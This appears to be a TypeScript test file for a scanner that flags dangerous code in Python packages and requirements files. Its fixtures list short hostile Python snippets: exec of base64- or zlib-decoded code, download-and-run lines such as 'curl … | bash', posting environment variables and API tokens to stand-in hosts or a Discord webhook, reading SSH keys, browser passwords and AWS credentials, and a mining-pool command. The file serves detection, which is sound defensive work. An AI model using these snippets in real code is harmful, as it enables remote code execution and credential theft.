import { DangerSearch } from './find-dangers'
import { lookAtPython as look } from '../inspection/python-for-tests'

const base64 = (text: string) => Buffer.from(text).toString('base64')

const hook = 'https://discord.com/api/webhooks/123456789012345678/abcDEFghiJKLmnoPQRstuVWXyz'

const FLAGGED: [string, string, string][] = [
  ['runs decoded code', 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))', 'runs-decoded-code'],
  [
    'runs decoded code by way of names',
    'import zlib as z\nfrom base64 import b64decode as d\ndef go():\n    a = d(BLOB)\n    b = z.decompress(a)\n    exec(compile(b, "x", "exec"))',
    'runs-decoded-code',
  ],
  [
    'hides exec behind other names',
    'import marshal\nrun = getattr(__builtins__, "ex" "ec")\ncode = marshal.loads(x)\nrun(code)',
    'runs-decoded-code',
  ],
  ['turns letters and runs them', 'eval("cevag(1)".decode("rot13"))', 'runs-decoded-code'],
  ['decodes with codecs', 'import codecs\neval(codecs.decode(x, "rot_13"))', 'runs-decoded-code'],
  ['downloads and evaluates', 'import requests\nexec(requests.get(URL).text)', 'runs-downloads'],
  [
    'downloads and evaluates in a with',
    'from urllib.request import urlopen\nwith urlopen(URL) as answer:\n    exec(answer.read().decode())',
    'runs-downloads',
  ],
  [
    'saves a program and starts it',
    'import subprocess, urllib.request\nurllib.request.urlretrieve(URL, target)\nsubprocess.Popen([target, "-q"])',
    'runs-downloads',
  ],
  [
    'writes a program and starts it',
    'import os, requests\nr = requests.get(URL)\nwith open(path, "wb") as f:\n    f.write(r.content)\nos.startfile(path)',
    'runs-downloads',
  ],
  [
    'pipes a download into a shell',
    '__import__("os").system("curl -s https://x.example/a | bash")',
    'runs-downloads',
  ],
  ['is written so that Python reads something else', '# coding: utf-7\n+AAo-x = 1', 'unusual-encoding'],
  [
    'downloads in one function and runs it in another',
    'from urllib.request import urlopen\ndef get():\n    return urlopen(URL).read()\ndef go():\n    exec(get())',
    'runs-downloads',
  ],
  [
    'saves with curl and runs it in the same command',
    'import os\nos.system("curl -so /tmp/a https://x.example/a && sh /tmp/a")',
    'runs-downloads',
  ],
  [
    'saves with curl and runs it by another command',
    'import subprocess\nsubprocess.run(["curl", "-o", "a.sh", URL])\nsubprocess.run(["sh", "a.sh"])',
    'runs-downloads',
  ],
  ['runs letters that it computes', 'exec("".join(chr(n) for n in NUMBERS))', 'runs-decoded-code'],
  ['runs bytes that it changes', 'code = bytes(b ^ 42 for b in BLOB)\nexec(code)', 'runs-decoded-code'],
  ['runs a text file', 'exec(open("data.txt").read())', 'runs-unread-code'],
  [
    'runs a text file by way of names',
    'from pathlib import Path\ndef go():\n    text = Path("data.bin").read_text()\n    eval(text)',
    'runs-unread-code',
  ],
  ['imports from an archive', 'import sys\nsys.path.insert(0, "vendor/lib.zip")', 'runs-unread-code'],
  [
    'imports from an archive by a name',
    'import os, sys\nlib = os.path.join(HERE, "lib.whl")\nsys.path.append(lib)',
    'runs-unread-code',
  ],
  ['imports by zipimport', 'import zipimport\nzipimport.zipimporter(path)', 'runs-unread-code'],
  ['puts the name of exec together', 'getattr(__builtins__, "ex" + "ec")(text)', 'hides-names'],
  ['computes the name of a built-in', 'getattr(__builtins__, name)(text)', 'hides-names'],
  ['asks for os.system as a text', 'import os\ngetattr(os, "system")("ls")', 'hides-names'],
  ['takes exec out of the built-ins', '__import__("builtins").__dict__["exec"](text)', 'hides-names'],
  ['takes any built-in by a computed name', 'vars(__builtins__)[name](text)', 'hides-names'],
  [
    'posts the whole environment',
    'import os, requests\nrequests.post(URL, json=dict(os.environ))',
    'sends-secrets',
  ],
  [
    'posts a copy of the environment',
    'import os, httpx\nall = os.environ.copy()\nhttpx.post(URL, json=all)',
    'sends-secrets',
  ],
  [
    "posts somebody's token to another's server",
    'import os, requests\nkey = os.environ["HF_TOKEN"]\nrequests.post("https://x.example/a", json={"k": key})',
    'sends-secrets',
  ],
  [
    "puts somebody's token into an address",
    'import os\nfrom urllib.request import urlopen\nurlopen("https://x.example/?k=" + os.getenv("OPENAI_API_KEY"))',
    'sends-secrets',
  ],
  ['reads the folder of SSH keys', 'p = os.path.join(home, ".ssh")', 'reads-credentials'],
  ['reads SSH keys', 'open(os.path.expanduser("~/.ssh/id_rsa")).read()', 'reads-credentials'],
  ['reads SSH keys in pieces', 'p = os.path.join(home, ".ssh", "id_ed25519")', 'reads-credentials'],
  ['reads SSH keys with pathlib', 'p = Path.home() / ".ssh" / "id_rsa"', 'reads-credentials'],
  [
    "reads a browser's passwords",
    'p = local + "\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data"',
    'reads-credentials',
  ],
  ['reads a wallet', 'find("nkbihfbeogaeaoehlefnkodbefgpgknn")', 'reads-credentials'],
  ['reads a hidden path', `p = "${base64('~/.aws/credentials')}"`, 'reads-credentials'],
  ['sends to a webhook', `requests.post("${hook}", json=data)`, 'sends-to-webhook'],
  ['sends to a hidden webhook', `u = base64.b64decode("${base64(hook)}")`, 'sends-to-webhook'],
  ['sends to a bot', 'u = f"https://api.telegram.org/bot{TOKEN}/sendMessage"', 'sends-to-webhook'],
  ['mines', 'cmd = ["./tool", "-o", "stratum+tcp://pool.example:3333"]', 'mines-coins'],
  [
    'runs what PyArmor made',
    'from pyarmor_runtime import __pyarmor__\n__pyarmor__(__name__, __file__, b"x")',
    'runs-obfuscated-code',
  ],
]

test.each(FLAGGED)('a pack that %s is flagged', async (_what, text, rule) => {
  const findings = await look(text)
  expect(findings[0]).toMatchObject({ rule, enforced: true, file: 'nodes.py', snippet: expect.any(String) })
})

const inFiles = (look: (search: DangerSearch) => void) => {
  const search = new DangerSearch()
  look(search)
  return search.findings.map(({ rule, enforced, file, line }) => ({ rule, enforced, file, line }))
}

test.each([
  ['an index', '--index-url http://x.example/simple'],
  ['a further index', 'torch\n--extra-index-url=http://x.example/simple'],
  ['a package', 'evil @ http://x.example/evil.whl'],
  ['a repository', 'evil @ git+http://x.example/evil.git'],
])('a pack that takes %s without encryption is flagged', (_what, text) => {
  const line = text.split('\n').length
  expect(inFiles((search) => search.lookAtRequirements('requirements.txt', text))).toEqual([
    { rule: 'insecure-requirement', enforced: true, file: 'requirements.txt', line },
  ])
})

test('a pack with compiled Python that is imported by itself is flagged', () => {
  expect(inFiles((search) => search.lookAtName('lib/core.pyc'))).toEqual([
    { rule: 'compiled-program', enforced: true, file: 'lib/core.pyc', line: undefined },
  ])
})
